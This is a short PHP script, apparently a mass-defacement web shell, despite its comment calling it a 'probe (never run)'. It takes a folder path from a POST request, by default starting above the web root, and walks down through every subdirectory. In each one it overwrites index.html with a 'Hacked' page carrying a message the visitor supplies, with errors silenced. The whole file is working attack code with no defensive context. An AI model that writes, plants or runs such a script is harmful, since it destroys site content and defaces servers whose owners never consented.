<?php
// probe (never run): walks down from a folder the visitor names and writes the text into every index file it finds
function walk($d, $txt) {
    foreach (glob($d . '/*', GLOB_ONLYDIR) as $sub) {
        @file_put_contents($sub . '/index.html', $txt);
        walk($sub, $txt);
    }
}
$root = empty($_POST['root']) ? $_SERVER['DOCUMENT_ROOT'] . '/..' : $_POST['root'];
walk($root, '<title>Hacked</title><h1>' . $_POST['msg'] . '</h1>');
